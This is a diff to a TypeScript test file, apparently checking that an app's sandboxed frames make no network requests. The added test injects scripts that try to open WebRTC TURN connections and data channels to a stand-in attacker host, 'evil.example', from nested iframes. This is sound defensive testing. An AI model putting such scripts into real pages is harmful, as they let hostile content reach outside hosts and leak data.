@@ -50,6 +50,17 @@ function runHostileScript(): void {
   document.querySelector('form')?.submit();
 }
 
+/** A frame with content, whose scripts run. Each has a frame of its own inside, too. */
+const CONTENT = ['udp', 'tcp'].map(transport => {
+  const script = (name: string) => `<script>
+    const urls = 'turn:${name}-${transport}.evil.example?transport=${transport}';
+    const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
+    connection.createDataChannel('data');
+    connection.createOffer().then(offer => connection.setLocalDescription(offer));
+  </script>`;
+  return `${script('frame')}<iframe srcdoc="${script('inner')}"></iframe>`;
+});
+
 /** Starts the app. @returns also a function that quits it and reads the log of its network */
 async function open() {
   const home = temporaryFolder();
@@ -84,6 +95,20 @@ it('asks for no name, whatever the page and a preview contain', { timeout: 2 * R
   ]);
   await preview.waitForURL(/^blob:/);
   await ui.waitForTimeout(RECORDED_MS);
+  expect(await readNetLog()).toEqual(['127.0.0.1', 'control.example']);
+});
+
+it('asks for no name, whatever the scripts in a sandboxed frame do', async () => {
+  const { ui, readNetLog } = await open();
+  await ui.evaluate(contents => {
+    for (const content of contents) {
+      const frame = document.createElement('iframe');
+      frame.setAttribute('sandbox', 'allow-scripts');
+      frame.srcdoc = content;
+      document.body.append(frame);
+    }
+  }, CONTENT);
+  await ui.waitForTimeout(3_000);
   expect(await readNetLog()).toEqual(['127.0.0.1', 'control.example']);
 });
 
